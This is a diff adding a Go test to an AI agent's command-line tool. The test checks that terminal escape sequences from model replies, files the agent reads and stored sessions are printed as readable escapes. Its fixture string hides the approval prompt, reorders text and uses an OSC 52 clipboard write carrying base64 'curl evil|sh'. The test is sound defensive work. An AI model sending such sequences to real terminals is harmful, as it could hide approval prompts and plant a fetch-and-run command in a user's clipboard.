@@ -485,3 +485,62 @@ func TestProtectedWritesAreAsked(t *testing.T) {
 		})
 	}
 }
+
+// TestTerminalIsNotTakenOver: an answer, a file a tool read and the stored
+// session can hold escape sequences that would hide the approval question
+// (SGR 8), set the clipboard (OSC 52) or reorder text (U+202E). Printed by
+// the CLI they arrive as readable escapes, in plain output and in the
+// listing; --json keeps the same values in valid JSON.
+func TestTerminalIsNotTakenOver(t *testing.T) {
+	const hostile = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[8m\u009b2J\u202e"
+	ws := t.TempDir()
+	if err := os.WriteFile(filepath.Join(ws, "notes.txt"), []byte("meeting at 10"+hostile+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	replies := func() []ollamatest.Reply {
+		return []ollamatest.Reply{
+			ollamatest.Tools(ollamatest.Call{Name: "fs.read", Args: map[string]any{"path": "notes.txt"}}),
+			ollamatest.Text("Read it." + hostile),
+		}
+	}
+	obeyed := func(what, s string) {
+		t.Helper()
+		if i := strings.IndexFunc(s, func(r rune) bool {
+			return r == 0x1b || r == 0x07 || r == 0x9b || r == 0x202e
+		}); i >= 0 {
+			t.Errorf("%s holds a raw control at %d: %q", what, i, s)
+		}
+	}
+	dd := t.TempDir()
+	srv := ollamatest.New(t, ollamatest.Model{Name: "m", Replies: replies()})
+	code, out, errOut := run("--data-dir", dd, "--ollama", srv.URL, "chat", "--workspace", ws, "--model", "m", "--approve", "read", "what is in notes.txt"+hostile)
+	if code != 0 {
+		t.Fatalf("exit %d: %s\n%s", code, errOut, out)
+	}
+	obeyed("plain stdout", out)
+	obeyed("plain stderr", errOut)
+	for _, want := range []string{`Read it.\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[8m\u009b2J\u202e`, `meeting at 10\x1b]52`} {
+		if !strings.Contains(out, want) {
+			t.Errorf("stdout lacks %q:\n%s", want, out)
+		}
+	}
+	code, out, errOut = run("--data-dir", dd, "sessions", "list")
+	if code != 0 {
+		t.Fatalf("sessions list: exit %d: %s", code, errOut)
+	}
+	obeyed("sessions list", out)
+	id := strings.Fields(strings.Split(out, "\n")[1])[0]
+	code, out, errOut = run("--data-dir", dd, "sessions", "show", id)
+	if code != 0 || !strings.Contains(out, "Read it.") {
+		t.Fatalf("sessions show: exit %d: %s\n%s", code, errOut, out)
+	}
+	obeyed("sessions show", out)
+
+	srv = ollamatest.New(t, ollamatest.Model{Name: "m", Replies: replies()})
+	r := chat(t, t.TempDir(), srv.URL, ws, "--model", "m", "--approve", "read", "what is in notes.txt")
+	obeyed("--json stdout", r.raw)
+	resp := r.data(t, "agent:response")
+	if len(resp) != 1 || resp[0]["text"] != "Read it."+hostile {
+		t.Fatalf("--json response: %v", resp)
+	}
+}
